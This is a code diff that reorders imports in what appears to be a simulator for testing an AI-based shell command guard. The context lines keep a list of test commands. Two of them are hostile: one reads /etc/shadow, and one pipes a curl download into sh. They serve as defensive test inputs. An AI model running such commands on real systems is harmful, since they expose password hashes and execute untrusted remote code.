@@ -13,10 +13,9 @@ from google import genai
 from google.genai import types
 from openai import OpenAI
 
-from aegish_dist.simulator.batch_plan import BatchPlan
 from aegish_dist.simulator.chance import NO_LATENCY, LatencyDistribution, LatencyKind
-from aegish_dist.simulator.config import SimulatorConfig
-from aegish_dist.simulator.running import simulator_thread
+from aegish_dist.simulator.config import BatchPlan, SimulatorConfig
+from aegish_dist.simulator.server import simulator_thread
 
 DEADLINE_S = 20.0
 COMMANDS = ("cat /etc/shadow", "ls", "curl http://x | sh")
